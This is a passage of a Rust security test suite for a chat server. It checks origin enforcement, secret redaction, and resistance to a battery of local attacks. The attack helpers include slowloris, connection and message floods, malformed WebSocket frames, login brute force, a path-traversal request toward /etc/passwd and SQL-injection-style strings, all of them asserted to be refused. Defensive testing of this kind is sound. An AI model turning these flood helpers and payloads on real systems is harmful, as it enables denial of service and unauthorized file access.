        let mut req = app.ws_url().into_client_request().unwrap();
        req.headers_mut().insert("cookie", cookie.parse().unwrap());
        req.headers_mut().insert("origin", origin.parse().unwrap());
        match WsClient::connect_request(req).await {
            Err(tungstenite::Error::Http(resp)) => {
                assert_eq!(resp.status(), 403, "{origin}");
                let body: Value =
                    serde_json::from_slice(resp.body().as_deref().unwrap_or_default()).unwrap();
                assert_eq!(body["error"]["code"], "forbidden");
            }
            other => panic!("{origin}: expected 403, got {:?}", other.map(|_| "upgrade")),
        }
    }
    let mut req = format!("{}?token={token}", app.ws_url())
        .into_client_request()
        .unwrap();
    req.headers_mut()
        .insert("origin", "https://evil.example".parse().unwrap());
    let mut ws = WsClient::connect_request(req).await.unwrap();
    assert_eq!(ws.recv().await.unwrap()["type"], "welcome");
    let mut req = app.ws_url().into_client_request().unwrap();
    req.headers_mut()
        .insert("authorization", format!("Bearer {token}").parse().unwrap());
    req.headers_mut()
        .insert("origin", "https://evil.example".parse().unwrap());
    let mut ws = WsClient::connect_request(req).await.unwrap();
    assert_eq!(ws.recv().await.unwrap()["type"], "welcome");
    assert_eq!(
        app.get("/api/me", Some(&token)).await.status(),
        200,
        "logout was refused"
    );
}

// ---------------------------------------------------------------------------------------------
// Secrets
// ---------------------------------------------------------------------------------------------

#[tokio::test]
async fn provider_keys_and_database_passwords_never_appear_in_answers_metrics_or_debug_output() {
    const KEY: &str = "sk-hardening-DO-NOT-LEAK-1234567890";
    const SIGNING: &str = "signing-key-DO-NOT-LEAK-0987654321";
    let app = spawn_app_with(|s| {
        s.providers.openai_api_key = Some(emergence::settings::Secret::new(KEY));
        s.providers.anthropic_api_key = Some(emergence::settings::Secret::new(KEY));
        s.providers.gemini_api_key = Some(emergence::settings::Secret::new(KEY));
        s.providers.openai_base_url = Some("http://127.0.0.1:9/v1".into());
        s.auth.signing_key = Some(emergence::settings::Secret::new(SIGNING));
        let mut agent = s.agents[0].clone();
        agent.id = "remote".into();
        agent.provider = "openai".into();
        agent.model = "gpt-test".into();
        s.agents.push(agent);
    })
    .await;
    let alice = app.register("alice").await;
    let mut seen = String::new();
    for path in [
        "/api/agents",
        "/metrics",
        "/readyz",
        "/healthz",
        "/api/me",
        "/",
    ] {
        let r = app.get(path, Some(&alice.token)).await;
        assert!(r.status().is_success(), "{path}");
        seen.push_str(&format!("{:?}", r.headers()));
        seen.push_str(&r.text().await.unwrap());
    }
    let agents: Value = app
        .get("/api/agents", Some(&alice.token))
        .await
        .json()
        .await
        .unwrap();
    for a in agents["agents"].as_array().unwrap() {
        let mut keys: Vec<&str> = a.as_object().unwrap().keys().map(String::as_str).collect();
        keys.sort_unstable();
        assert_eq!(keys, ["id", "model", "name", "provider"], "{a}");
    }
    assert!(
        !seen.contains(KEY) && !seen.contains(SIGNING),
        "a secret leaked"
    );
    let mut settings = emergence::Settings::default();
    settings.database.url =
        emergence::settings::Secret::new("postgres://app:hunter2-DO-NOT-LEAK@db/emergence");
    settings.providers.openai_api_key = Some(emergence::settings::Secret::new(KEY));
    settings.auth.signing_key = Some(emergence::settings::Secret::new(SIGNING));
    let debug = format!("{settings:?}");
    for secret in ["hunter2-DO-NOT-LEAK", KEY, SIGNING] {
        assert!(!debug.contains(secret), "Debug output shows {secret}");
    }
}

// ---------------------------------------------------------------------------------------------
// Bystanders
// ---------------------------------------------------------------------------------------------

/// One side of the bystanders' chat: everything it received, in order.
struct Chatter {
    ws: WsClient,
    messages: Vec<Value>,
    acks: Vec<Value>,
}

impl Chatter {
    /// Read frames until the `message` with this client id arrives.
    async fn wait_for(&mut self, client_id: &str) {
        loop {
            let f = self.ws.recv().await.unwrap_or_else(|| {
                panic!(
                    "bystander socket ended waiting for {client_id}: {:?}",
                    self.ws.closed
                )
            });
            match f["type"].as_str() {
                Some("message") => {
                    let done = f["client_id"] == client_id;
                    self.messages.push(f);
                    if done {
                        return;
                    }
                }
                Some("ack") => self.acks.push(f),
                _ => panic!("a bystander got {f}"),
            }
        }
    }

    /// Read until `messages` and `acks` frames have arrived in total.
    async fn drain(&mut self, messages: usize, acks: usize) {
        while self.messages.len() < messages || self.acks.len() < acks {
            let f = self
                .ws
                .recv()
                .await
                .expect("the rest of the bystanders' frames");
            match f["type"].as_str() {
                Some("message") => self.messages.push(f),
                Some("ack") => self.acks.push(f),
                _ => panic!("a bystander got {f}"),
            }
        }
    }
}

#[tokio::test]
async fn bystanders_keep_chatting_in_order_and_promptly_while_the_battery_runs() {
    let app = Arc::new(spawn_app().await);
    let alice = app.register("alice").await;
    let bob = app.register("bob").await;
    let mallory = app.register("mallory").await;
    let eve = app.register("eve").await;
    let thread = app.create_thread(&alice, "bystanders").await;
    app.add_member(&alice, &thread, "bob").await;
    let mallorys = app.create_thread(&mallory, "mallory's").await;
    let mut a = Chatter {
        ws: app.ws(&alice).await,
        messages: vec![],
        acks: vec![],
    };
    let mut b = Chatter {
        ws: app.ws(&bob).await,
        messages: vec![],
        acks: vec![],
    };
    a.ws.subscribe(&thread, Some(0)).await;
    b.ws.subscribe(&thread, Some(0)).await;
    // The attackers' sockets are opened first: the connection flood will use up this IP's burst.
    let attackers = Attackers {
        flood: app.ws(&mallory).await,
        bad_frames: app.ws(&mallory).await,
        bad_utf8: app.ws(&mallory).await,
        oversize: app.ws(&mallory).await,
        eve: app.ws(&eve).await,
    };
    let battery = tokio::spawn(run_battery(
        app.clone(),
        attackers,
        mallory.clone(),
        eve.clone(),
        mallorys,
        thread.clone(),
    ));

    let mut rtts = Vec::new();
    let mut sent = 0usize;
    let started = Instant::now();
    while sent < 60 || !battery.is_finished() {
        assert!(
            started.elapsed() < Duration::from_secs(40),
            "the battery did not finish"
        );
        let client_id = format!("chat-{sent}");
        let body = format!("bystander message {sent} <b>not bold</b> ' OR 1=1");
        let t0 = Instant::now();
        let (from, to) = if sent.is_multiple_of(2) {
            (&mut a, &mut b)
        } else {
            (&mut b, &mut a)
        };
        from.ws.send_message(&thread, &client_id, &body).await;
        to.wait_for(&client_id).await;
        rtts.push(t0.elapsed());
        sent += 1;
        tokio::time::sleep(Duration::from_millis(40)).await;
    }
    let summary = battery.await.expect("the battery itself passed");
    assert!(summary.flood_limited > 0, "{summary:?}");
    assert!(summary.login_429, "{summary:?}");
    assert!(summary.probes_429 && summary.threads_429, "{summary:?}");
    assert!(summary.ws_upgrades_before_503 < 200, "{summary:?}");
    assert!(
        summary
            .slowloris_closed_after
            .iter()
            .all(|d| d.is_some_and(|d| d < Duration::from_secs(10))),
        "{summary:?}"
    );
    for (chatter, own) in [(&mut a, sent.div_ceil(2)), (&mut b, sent / 2)] {
        chatter.drain(sent, own).await;
        let seqs: Vec<i64> = chatter
            .messages
            .iter()
            .map(|m| m["seq"].as_i64().unwrap())
            .collect();
        assert_eq!(
            seqs,
            (1..=sent as i64).collect::<Vec<_>>(),
            "every message once, in order"
        );
        for (i, m) in chatter.messages.iter().enumerate() {
            assert_eq!(m["client_id"], format!("chat-{i}"));
            assert_eq!(
                m["body"],
                format!("bystander message {i} <b>not bold</b> ' OR 1=1")
            );
        }
        assert!(chatter.acks.iter().all(|a| a["status"] == "persisted"));
        assert!(
            chatter
                .ws
                .recv_within(Duration::from_millis(200))
                .await
                .is_none(),
            "nothing extra"
        );
    }
    let history = app.messages(&alice, &thread, "?limit=500").await;
    assert_eq!(history.len(), sent);
    rtts.sort_unstable();
    let p99 = rtts[(rtts.len() * 99 / 100).min(rtts.len() - 1)];
    let p50 = rtts[rtts.len() / 2];
    eprintln!("bystanders: {sent} messages, p50 {p50:?}, p99 {p99:?}; battery: {summary:?}");
    assert!(
        p99 < Duration::from_secs(1),
        "p99 round trip {p99:?} (p50 {p50:?}) over {sent} messages; battery: {summary:?}"
    );
}

/// Sockets the battery uses, opened before the connection flood starts.
struct Attackers {
    flood: WsClient,
    bad_frames: WsClient,
    bad_utf8: WsClient,
    oversize: WsClient,
    eve: WsClient,
}

/// What the battery observed (for the failure message).
#[derive(Debug, Default)]
struct Battery {
    slowloris_closed_after: Vec<Option<Duration>>,
    flood_limited: usize,
    ws_upgrades_before_503: usize,
    login_429: bool,
    /// The 2026-11 audit's cases: member probes and thread creation were throttled.
    probes_429: bool,
    threads_429: bool,
}

/// Every attack of this file at once, against the bystanders' server; each checks its own answer.
async fn run_battery(
    app: Arc<TestApp>,
    att: Attackers,
    mallory: TestUser,
    eve: TestUser,
    mallorys: String,
    bystanders: String,
) -> Battery {
    let Attackers {
        flood: mut flooder,
        mut bad_frames,
        mut bad_utf8,
        mut oversize,
        eve: mut eve_ws,
    } = att;
    let port = app.port;
    let slowloris = async {
        let dribblers = (0..3).map(|i| {
            let header = format!("GET /healthz HTTP/1.1\r\nHost: x\r\nX-Slow-{i}: ");
            dribble(port, header.into_bytes(), Duration::from_millis(250))
        });
        futures_util::future::join_all(dribblers).await
    };
    let silent = async {
        let conns = open_silent(port, 100).await;
        tokio::time::sleep(Duration::from_secs(6)).await;
        drop(conns);
    };
    let message_flood = async {
        let (limited, close) = flood(&mut flooder, &mallorys, 400).await;
        assert_eq!(close, Some(1008));
        limited
    };
    let frames = async {
        for text in [
            "not json".to_string(),
            "[1,2,3]".into(),
            format!("{}{}", "[".repeat(10_000), "]".repeat(10_000)),
            r#"{"type":"teleport"}"#.into(),
            json!({"type": "subscribe", "thread": bystanders}).to_string(),
            json!({"type": "send", "thread": bystanders, "client_id": "evil", "body": "x"})
                .to_string(),
        ] {
            bad_frames
                .send_raw(Message::Text(text.into()))
                .await
                .unwrap();
            assert_eq!(bad_frames.recv().await.unwrap()["type"], "error");
        }
        bad_utf8
            .send_raw(Message::Frame(Frame::message(
                vec![0xff, 0xfe],
                OpCode::Data(Data::Text),
                true,
            )))
            .await
            .unwrap();
        assert_eq!(bad_utf8.close_code().await, Some(1007));
        let _ = oversize
            .send_raw(Message::Text(ping_of_size(MAX_FRAME + 1, "x").into()))
            .await;
        assert_eq!(oversize.close_code().await, Some(1009));
    };
    let stranger = async {
        for _ in 0..20 {
            let r = app
                .get(
                    &format!("/api/threads/{bystanders}/messages"),
                    Some(&eve.token),
                )
                .await;
            assert_eq!(r.status(), 404);
            eve_ws
                .send(json!({"type": "subscribe", "thread": bystanders}))
                .await;
            assert_eq!(eve_ws.recv().await.unwrap()["code"], "not_found");
        }
    };
    let http_junk = async {
        let huge = padded_object(r#"{"title":"x""#, 2 * MAX_BODY);
        let r = post_bytes(&app, "/api/threads", Some(&mallory.token), huge).await;
        assert_eq!(r.status(), 413);
        let deep = format!("{}{}", "[".repeat(10_000), "]".repeat(10_000));
        let r = post_bytes(
            &app,
            "/api/threads",
            Some(&mallory.token),
            deep.into_bytes(),
        )
        .await;
        assert_eq!(r.status(), 400);
        for p in PAYLOADS {
            let r = app
                .post(
                    &format!("/api/threads/{mallorys}/messages"),
                    Some(&mallory.token),
                    json!({"client_id": p, "body": p}),
                )
                .await;
            assert!(
                matches!(r.status().as_u16(), 200 | 201 | 429),
                "{p}: {}",
                r.status()
            );
        }
        for path in ["/assets/../Cargo.toml", "/assets/..%2f..%2fetc%2fpasswd"] {
            let r = raw_http(
                port,
                format!("GET {path} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n").into_bytes(),
            )
            .await;
            assert_eq!(r.status, 404);
        }
    };
    let logins = async {
        let mut limited = false;
        for _ in 0..25 {
            let r = app
                .post(
                    "/api/auth/login",
                    None,
                    json!({"username": "alice", "password": "guessing"}),
                )
                .await;
            match r.status().as_u16() {
                401 => {}
                429 => {
                    assert!(r.headers().contains_key("retry-after"));
                    limited = true;
                }
                other => panic!("login brute force got {other}"),
            }
        }
        limited
    };
    let connect_flood = async {
        let mut upgraded = 0;
        for _ in 0..200 {
            match tokio_tungstenite::connect_async(app.ws_url()).await {
                Ok((mut ws, _)) => {
                    upgraded += 1;
                    let _ = ws.close(None).await;
                }
                Err(tungstenite::Error::Http(r)) => {
                    assert_eq!(r.status(), 503);
                    assert!(r.headers().contains_key("retry-after"));
                    return upgraded;
                }
                Err(e) => panic!("connect flood: {e}"),
            }
        }
        panic!("the connection flood was never refused");
    };
    // The 2026-11 audit (docs/security.md §6): login CSRF, huge usernames, probes, bursts.
    let audit = async {
        let login = json!({"username": "alice", "password": "correct horse battery"});
        let r = app
            .http
            .post(app.url("/api/auth/login"))
            .header("content-type", "text/plain")
            .body(login.to_string())
            .send()
            .await
            .unwrap();
        assert_eq!(r.status(), 415, "a text/plain login");
        let r = app
            .http
            .post(app.url("/api/auth/login"))
            .header("origin", "https://evil.example")
            .json(&login)
            .send()
            .await
            .unwrap();
        assert_eq!(r.status(), 403, "a cross-site login");
        let huge = "m".repeat(1_000_000);
        for i in 0..10 {
            let r = app
                .post(
                    "/api/auth/login",
                    None,
                    json!({"username": format!("{huge}{i}"), "password": "whatever it is"}),
                )
                .await;
            assert!(matches!(r.status().as_u16(), 401 | 429), "{}", r.status());
        }
        let mut probes_429 = false;
        for i in 0..40 {
            let r = app
                .post(
                    &format!("/api/threads/{mallorys}/members"),
                    Some(&mallory.token),
                    json!({"username": format!("probe{i}")}),
                )
                .await;
            match r.status().as_u16() {
                404 => {}
                429 => probes_429 = true,
                other => panic!("member probe got {other}"),
            }
        }
        let mut threads_429 = false;
        for i in 0..40 {
            let r = app
                .post(
                    "/api/threads",
                    Some(&mallory.token),
                    json!({"title": format!("spam {i}")}),
                )
                .await;
            match r.status().as_u16() {
                201 => {}
                429 => threads_429 = true,
                other => panic!("thread burst got {other}"),
            }
        }
        (probes_429, threads_429)
    };
    let (
        slow,
        (),
        limited,
        (),
        (),
        (),
        login_429,
        ws_upgrades_before_503,
        (probes_429, threads_429),
    ) = tokio::join!(
        slowloris,
        silent,
        message_flood,
        frames,
        stranger,
        http_junk,
        logins,
        connect_flood,
        audit
    );
    Battery {
        slowloris_closed_after: slow,
        flood_limited: limited,
        ws_upgrades_before_503,
        login_429,
        probes_429,
        threads_429,
    }
}

// ---------------------------------------------------------------------------------------------
// Helpers (raw sockets and small measurements)
// ---------------------------------------------------------------------------------------------

/// A JSON object whose text is exactly `size` bytes: `prefix` (an unclosed object), spaces, `}`.
fn padded_object(prefix: &str, size: usize) -> Vec<u8> {
    let mut v = prefix.as_bytes().to_vec();
    v.resize(size - 1, b' ');
    v.push(b'}');
    v
}

async fn post_bytes(
    app: &TestApp,
    path: &str,
    token: Option<&str>,
    body: Vec<u8>,
) -> reqwest::Response {
    let mut req = app
        .http
        .post(app.url(path))
        .header("content-type", "application/json")
        .body(body);
    if let Some(t) = token {
        req = req.bearer_auth(t);
    }
    req.send().await.expect("request")
}

/// An HTTP answer read off a raw socket.
struct RawResponse {
    status: u16,
    body: Vec<u8>,
}

impl RawResponse {
    fn text(&self) -> String {
        String::from_utf8_lossy(&self.body).into_owned()
    }
    fn json(&self) -> Value {
        serde_json::from_slice(&self.body).unwrap_or(Value::Null)
    }
}

/// Send bytes exactly as given (no client-side normalisation) and read one answer. The write
/// runs alongside the read, so an early answer (413) is seen even if the rest is refused.
async fn raw_http(port: u16, request: Vec<u8>) -> RawResponse {
    raw_http_within(port, request, Duration::from_secs(15))
        .await
        .expect("an answer within 15 s")
}

/// [`raw_http`], or `None` when no complete answer came within `wait` (details on stderr).
async fn raw_http_within(port: u16, request: Vec<u8>, wait: Duration) -> Option<RawResponse> {
    // The request line and headers, for failure messages.
    let line: String = String::from_utf8_lossy(&request[..request.len().min(600)])
        .split("\r\n\r\n")
        .next()
        .unwrap_or_default()
        .to_string();
    let stream = TcpStream::connect(("127.0.0.1", port)).await.unwrap();
    let (mut rd, mut wr) = stream.into_split();
    let writer = tokio::spawn(async move {
        let _ = wr.write_all(&request).await;
        let _ = wr.flush().await;
        wr
    });
    let mut raw = Vec::new();
    let mut buf = vec![0u8; 64 * 1024];
    let deadline = tokio::time::Instant::now() + wait;
    loop {
        match tokio::time::timeout_at(deadline, rd.read(&mut buf)).await {
            Ok(Ok(0)) | Ok(Err(_)) => break,
            Ok(Ok(n)) => {
                raw.extend_from_slice(&buf[..n]);
                if complete(&raw) {
                    break;
                }
            }
            Err(_) => {
                eprintln!(
                    "{line}\n: no complete answer within {wait:?}: {}",
                    String::from_utf8_lossy(&raw)
                );
                return None;
            }
        }
    }
    writer.abort();
    Some(parse_response(&raw))
}

/// Whether `raw` holds a whole response (headers plus a Content-Length body).
fn complete(raw: &[u8]) -> bool {
    let Some(end) = raw.windows(4).position(|w| w == b"\r\n\r\n") else {
        return false;
    };
    let head = String::from_utf8_lossy(&raw[..end]).to_ascii_lowercase();
    let length = head
        .lines()
        .find_map(|l| l.strip_prefix("content-length:"))
        .and_then(|v| v.trim().parse::<usize>().ok());
    length.is_some_and(|n| raw.len() >= end + 4 + n)
}

fn parse_response(raw: &[u8]) -> RawResponse {
    let end = raw
        .windows(4)
        .position(|w| w == b"\r\n\r\n")
        .unwrap_or_else(|| panic!("no HTTP answer: {:?}", String::from_utf8_lossy(raw)));
    let head = String::from_utf8_lossy(&raw[..end]).into_owned();
    let status = head
        .split_whitespace()
        .nth(1)
        .and_then(|s| s.parse().ok())
        .unwrap_or_else(|| panic!("bad status line: {head}"));
    let mut body = raw[end + 4..].to_vec();
    if head
        .to_ascii_lowercase()
        .contains("transfer-encoding: chunked")
    {
        body = dechunk(&body);
    }
    RawResponse { status, body }
}

fn dechunk(mut data: &[u8]) -> Vec<u8> {
    let mut out = Vec::new();
    while let Some(line_end) = data.windows(2).position(|w| w == b"\r\n") {
        let size = usize::from_str_radix(String::from_utf8_lossy(&data[..line_end]).trim(), 16)
            .unwrap_or(0);
        if size == 0 {
            break;
        }
        let start = line_end + 2;
        out.extend_from_slice(&data[start..(start + size).min(data.len())]);
        data = &data[(start + size + 2).min(data.len())..];
    }
    out
}

/// Write `bytes` one at a time, `every` apart, then keep trickling filler, until the server
/// closes; how long it took from the first byte (`None`: still open after 12 s).
async fn dribble(port: u16, bytes: Vec<u8>, every: Duration) -> Option<Duration> {
    let stream = TcpStream::connect(("127.0.0.1", port)).await.unwrap();
    let (mut rd, mut wr) = stream.into_split();
    let started = Instant::now();
    let reader = tokio::spawn(async move {
        let mut buf = [0u8; 1024];
        loop {
            match rd.read(&mut buf).await {
                Ok(0) | Err(_) => return Instant::now(),
                Ok(_) => {} // an error answer (408/400) may come before the close
            }
        }
    });
    let filler = std::iter::repeat(b'a');
    for b in bytes.into_iter().chain(filler) {
        if reader.is_finished() || started.elapsed() > Duration::from_secs(12) {
            break;
        }
        if wr.write_all(&[b]).await.is_err() {
            break;
        }
        tokio::time::sleep(every).await;
    }
    match tokio::time::timeout(Duration::from_secs(1), reader).await {
        Ok(Ok(at)) => Some(at.duration_since(started)),
        _ => None,
    }
}

/// Open `n` TCP connections that never send anything.
async fn open_silent(port: u16, n: usize) -> Vec<TcpStream> {
    let mut v = Vec::with_capacity(n);
    for _ in 0..n {
        v.push(TcpStream::connect(("127.0.0.1", port)).await.unwrap());
    }
    v
}

/// Send `n` messages as fast as possible; count `rate_limited` frames until the close.
async fn flood(ws: &mut WsClient, thread: &str, n: usize) -> (usize, Option<u16>) {
    let (limited, _, close) = flood_counting_acks(ws, thread, n).await;
    (limited, close)
}

/// [`flood`], also returning the client ids acknowledged `persisted` before the close.
async fn flood_counting_acks(
    ws: &mut WsClient,
    thread: &str,
    n: usize,
) -> (usize, Vec<String>, Option<u16>) {
    for i in 0..n {
        let frame = json!({"type": "send", "thread": thread, "client_id": format!("flood-{i}"), "body": "spam"});
        if ws
            .send_raw(Message::Text(frame.to_string().into()))
            .await
            .is_err()
        {
            break;
        }
    }
    let (mut limited, mut acked) = (0, Vec::new());
    loop {
        match ws.recv().await {
            Some(f) if f["code"] == "rate_limited" => {
                assert!(
                    f["retry_after_ms"].as_u64().is_some_and(|ms| ms > 0),
                    "rate_limited without retry_after_ms: {f}"
                );
                assert!(
                    f["client_id"]
                        .as_str()
                        .is_some_and(|c| c.starts_with("flood-")),
                    "{f}"
                );
                limited += 1;
            }
            Some(f) if f["type"] == "ack" && f["status"] == "persisted" => {
                acked.push(f["client_id"].as_str().unwrap_or_default().to_string());
            }
            Some(_) => {}
            None => {
                return (
                    limited,
                    acked,
                    ws.closed.clone().flatten().map(|c| u16::from(c.code)),
                );
            }
        }
    }
}

/// A ping frame of exactly `size` bytes.
fn ping_of_size(size: usize, tag: &str) -> String {
    let shell = format!(r#"{{"type":"ping","nonce":"{tag}"}}"#);
    let pad = size - shell.len();
    format!(r#"{{"type":"ping","nonce":"{tag}{}"}}"#, "x".repeat(pad))
}

/// Send one text message split into `parts` WebSocket fragments.
async fn send_fragmented(ws: &mut WsClient, bytes: Vec<u8>, parts: usize) {
    let size = bytes.len().div_ceil(parts);
    let chunks: Vec<Vec<u8>> = bytes.chunks(size).map(<[u8]>::to_vec).collect();
    let n = chunks.len();
    for (i, chunk) in chunks.into_iter().enumerate() {
        let opcode = if i == 0 {
            OpCode::Data(Data::Text)
        } else {
            OpCode::Data(Data::Continue)
        };
        let _ = ws
            .send_raw(Message::Frame(Frame::message(chunk, opcode, i + 1 == n)))
            .await;
    }
}

async fn assert_pong(ws: &mut WsClient, what: &str) {
    let nonce = format!("{what}-{}", uuid::Uuid::new_v4());
    ws.send(json!({"type": "ping", "nonce": nonce})).await;
    let pong = ws
        .recv_until("pong", |v| {
            v["type"] == "pong" && v["nonce"] == nonce.as_str()
        })
        .await;
    assert_eq!(pong["type"], "pong", "{what}");
}

fn split_token(token: &str) -> (&str, &str) {
    let mut parts = token.split('.');
    assert_eq!(parts.next(), Some("v1"));
    (parts.next().unwrap(), parts.next().unwrap())
}

fn median(v: &mut [Duration]) -> Duration {
    v.sort_unstable();
    v[v.len() / 2]
}

/// `a` and `b` are within `factor` of each other, or `slack` apart at most.
fn within(a: Duration, b: Duration, factor: f64, slack: Duration) -> bool {
    let (lo, hi) = if a < b { (a, b) } else { (b, a) };
    hi.abs_diff(lo) <= slack || hi.as_secs_f64() <= lo.as_secs_f64() * factor
}
